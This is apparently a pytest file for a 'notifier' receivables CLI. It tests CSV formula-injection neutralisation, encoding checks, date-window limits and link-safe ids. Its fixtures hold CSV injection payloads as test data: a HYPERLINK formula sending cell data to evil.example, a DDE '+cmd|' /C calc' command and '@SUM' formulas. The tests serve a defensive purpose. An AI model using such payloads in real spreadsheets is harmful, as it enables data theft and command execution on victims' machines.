"""Plausible data through the `notifier` command as an operator runs it (issue 10): CSV
exports safe in a spreadsheet, ids a link can carry, dates inside the policy's window, one
encoding per file. A real process, a real SQLite file."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.support import ROOT, run

CUSTOMERS = (
    "customer_id,name,kind,phone,collector\n"
    'C001,"=HYPERLINK(""http://evil.example/?d=""&A1,""Pay"")",business,13912345678,'
    "\"+cmd|' /C calc'!A0\"\n"
    "@SUM(1+1),-2+3 Trading,business,13912345679,@collector\n"
    "C003,上海星辰贸易有限公司,business,13912345670,张伟\n"
)
RECEIVABLES = (
    "invoice_id,customer_id,amount,issued_on,due_on\n"
    "=1+1,C001,100.00,2026-01-01,2026-03-12\n"  # not due on 2026-03-02: -10 days overdue
    "INV-2,@SUM(1+1),200.00,2026-01-01,2026-02-01\n"
    "INV-3,C003,300.00,2026-01-01,2026-02-01\n"
)


@pytest.fixture
def db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'plausible.db'}"
    assert run("init", db=url).returncode == 0
    return url


def write(tmp_path: Path, name: str, data: bytes | str) -> str:
    path = tmp_path / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return str(path)


def imported(db: str, kind: str, path: str) -> None:
    result = run("import", kind, path, db=db)
    assert result.returncode == 0, result.stderr


def refused(db: str, kind: str, path: str) -> str:
    """The import's stderr, after checking it exited 1 without a traceback."""
    result = run("import", kind, path, db=db)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr and "nothing was imported" in result.stderr
    return result.stderr


def test_aging_csv_neutralises_formulas_from_names_collectors_and_ids(
    tmp_path: Path, db: str
) -> None:
    imported(db, "customers", write(tmp_path, "c.csv", CUSTOMERS))
    imported(db, "receivables", write(tmp_path, "r.csv", RECEIVABLES))
    result = run("report", "aging", "--at", "2026-03-02", "--format", "csv", db=db)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("\ufeff")  # UTF-8 with BOM, for Excel (issue 13)
    rows = {r["invoice_id"]: r for r in csv.DictReader(io.StringIO(result.stdout[1:]))}
    assert set(rows) == {"'=1+1", "INV-2", "INV-3"}
    first = rows["'=1+1"]
    assert first["customer_name"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Pay")'
    assert first["collector"] == "'+cmd|' /C calc'!A0"
    assert first["days_overdue"] == "-10"  # a number we computed stays a number
    assert (first["amount"], first["outstanding"]) == ("100.00", "100.00")
    second = rows["INV-2"]
    assert (second["customer_id"], second["customer_name"], second["collector"]) == (
        "'@SUM(1+1)", "'-2+3 Trading", "'@collector"
    )  # fmt: skip
    third = rows["INV-3"]  # nothing to neutralise: as it was
    assert (third["customer_id"], third["customer_name"]) == ("C003", "上海星辰贸易有限公司")
    for line in result.stdout.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), line


def test_a_utf8_file_with_one_gbk_row_is_refused_naming_row_and_column(
    tmp_path: Path, db: str
) -> None:
    raw = (
        "customer_id,name,kind\nC1,上海星辰贸易有限公司,business\nC2,杭州云帆科技,business\n"
    ).encode() + "C3,成都天府餐饮管理有限公司,business\n".encode("gbk")
    stderr = refused(db, "customers", write(tmp_path, "mixed.csv", raw))
    assert "row 4, column name: is not UTF-8 (the rest of the file is); save the whole file" in (
        stderr
    )
    report = run("report", "aging", "--at", "2026-03-02", "--format", "json", db=db)
    assert json.loads(report.stdout)["items"] == []
    explain = run("explain", "C1", db=db)
    assert explain.returncode == 1  # all or nothing: the good rows were not written


@pytest.mark.parametrize(
    ("cell", "column"),
    [("0001-01-01", "due_on"), ("9999-12-31", "due_on"), ("1999-12-31", "issued_on")],
)
def test_a_date_outside_the_policy_window_is_refused_at_import(
    tmp_path: Path, db: str, cell: str, column: str
) -> None:
    imported(db, "customers", write(tmp_path, "c.csv", CUSTOMERS))
    issued, due = ("2026-01-01", cell) if column == "due_on" else (cell, "2026-02-01")
    text = f"invoice_id,customer_id,amount,issued_on,due_on\nX1,C003,1.00,{issued},{due}\n"
    stderr = refused(db, "receivables", write(tmp_path, "r.csv", text))
    assert f"row 2, column {column}: " in stderr
    assert "is outside 2000-01-01..2100-12-31" in stderr


def test_the_date_window_is_the_policy_files(tmp_path: Path, db: str) -> None:
    policy = tmp_path / "notifier.toml"
    text = (ROOT / "config/notifier.toml").read_text(encoding="utf-8")
    policy.write_text(text.replace("earliest_date = 2000-01-01", "earliest_date = 2026-01-02"))
    imported(db, "customers", write(tmp_path, "c.csv", CUSTOMERS))
    path = write(tmp_path, "r.csv", RECEIVABLES)
    result = run("--config", str(policy), "import", "receivables", path, db=db)
    assert result.returncode == 1
    assert "row 2, column issued_on: 2026-01-01 is outside 2026-01-02..2100-12-31" in (
        result.stderr
    )


def test_a_payment_dated_in_the_future_is_refused(tmp_path: Path, db: str) -> None:
    imported(db, "customers", write(tmp_path, "c.csv", CUSTOMERS))
    imported(db, "receivables", write(tmp_path, "r.csv", RECEIVABLES))
    text = "payment_id,invoice_id,amount,paid_on\nP1,INV-3,300.00,2099-01-01\n"
    stderr = refused(db, "payments", write(tmp_path, "p.csv", text))
    assert "row 2, column paid_on: 2099-01-01 is in the future" in stderr


@pytest.mark.parametrize(
    ("customer_id", "named"),
    [("A/1", "'/'"), ("A?1", "'?'"), ("A#1", "'#'"), ("A%2F1", "'%'"), ("A 1", "whitespace")],
)
def test_an_id_that_would_break_its_link_is_refused_at_import(
    tmp_path: Path, db: str, customer_id: str, named: str
) -> None:
    text = f"customer_id,name,kind\n{customer_id},Acme,business\n"
    stderr = refused(db, "customers", write(tmp_path, "c.csv", text))
    assert f"row 2, column customer_id: '{customer_id}' contains {named}" in stderr


@pytest.mark.parametrize(
    "args",
    [
        ("report", "aging", "--at", "9999-12-31"),
        ("report", "aging", "--at", "0001-01-01"),
        ("plan", "--at", "9999-12-31T09:00:00+08:00"),
        ("explain", "C003", "--at", "9999-12-31T23:59:59-12:00"),
        ("deliver", "--at", "0001-01-01T00:00:00+00:00"),
    ],
)
def test_an_at_outside_the_window_exits_1_with_one_line(
    tmp_path: Path, db: str, args: tuple[str, ...]
) -> None:
    imported(db, "customers", write(tmp_path, "c.csv", CUSTOMERS))
    imported(db, "receivables", write(tmp_path, "r.csv", RECEIVABLES))
    result = run(*args, db=db)
    assert result.returncode == 1, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.stderr
    assert lines[0].startswith(f"error: --at {args[-1]}: ")
    assert lines[0].endswith("is outside 2000-01-01..2100-12-31 (policy [limits])")


def test_reports_and_planning_work_on_the_last_day_of_the_window(tmp_path: Path, db: str) -> None:
    imported(db, "customers", write(tmp_path, "c.csv", CUSTOMERS))
    imported(db, "receivables", write(tmp_path, "r.csv", RECEIVABLES))
    for fmt in ("json", "csv", "table"):
        result = run("report", "aging", "--at", "2100-12-31", "--format", fmt, db=db)
        assert result.returncode == 0, result.stderr
    items = json.loads(
        run("report", "aging", "--at", "2100-12-31", "--format", "json", db=db).stdout
    )["items"]
    assert {i["bucket"] for i in items} == {"90+"} and len(items) == 3
    for args in (
        ("plan", "--at", "2100-12-31T23:00:00-12:00"),
        ("explain", "C003", "--at", "2100-12-31T23:59:59+14:00"),
        ("deliver", "--at", "2100-12-31T12:00:00+08:00"),
        ("fallback", "--at", "2100-12-31T12:00:00+08:00"),
        ("report", "aging", "--at", "2000-01-01", "--settled-days", "3660"),
    ):
        result = run(*args, db=db)
        assert result.returncode == 0, (args, result.stderr)
